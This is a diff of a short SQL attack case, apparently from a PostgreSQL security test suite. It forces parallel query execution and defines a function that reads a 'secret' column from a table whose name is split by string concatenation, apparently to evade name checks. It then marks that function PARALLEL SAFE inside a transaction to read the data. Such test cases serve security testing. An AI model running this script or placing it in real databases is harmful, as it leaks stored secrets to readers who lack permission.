@@ -1,6 +1,6 @@
 -- Marks a function parallel safe in the transaction that calls it.
 -- wants: read
--- known: no account shows what a parallel worker touches, and the mark is newer than the picture
+-- unobserved: what tells of a parallel worker are counts of all sessions, and to observe is to blame nobody for others
 -- attack:
 SET parallel_leader_participation = off;
 SET parallel_setup_cost = 0;
@@ -8,7 +8,6 @@ SET parallel_tuple_cost = 0;
 SET min_parallel_table_scan_size = 0;
 CREATE FUNCTION peek(int) RETURNS text LANGUAGE plpgsql STABLE
   AS $f$ DECLARE found text; BEGIN EXECUTE 'SELECT secret FROM vlt' || '_account LIMIT 1' INTO found; RETURN found; END $f$;
--- repeat: 1..5
 BEGIN;
 ALTER FUNCTION peek PARALLEL SAFE;
 SELECT max(peek(id)) FROM base_many;
